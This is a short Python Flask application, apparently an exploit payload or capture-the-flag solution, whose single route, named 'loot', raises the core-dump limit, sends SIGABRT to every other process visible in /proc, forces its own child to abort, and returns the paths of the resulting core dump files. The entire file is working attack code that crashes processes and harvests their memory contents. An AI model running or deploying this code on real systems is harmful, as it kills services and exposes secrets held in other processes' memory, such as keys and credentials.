import glob
import os
import resource
import signal

from flask import Flask


def loot():
    try:
        resource.setrlimit(resource.RLIMIT_CORE, (-1, -1))
    except (OSError, ValueError) as error:
        print(error, flush=True)
    for pid in map(int, filter(str.isdigit, os.listdir("/proc"))):
        try:
            if pid != os.getpid():
                os.kill(pid, signal.SIGABRT)
        except OSError as error:
            print(error, flush=True)
    if os.fork() == 0:
        os.abort()
    os.wait()
    return str(glob.glob("core*") + glob.glob("/tmp/core*") + glob.glob("/core*"))


def create_app():
    app = Flask(__name__)
    app.get("/")(loot)
    return app
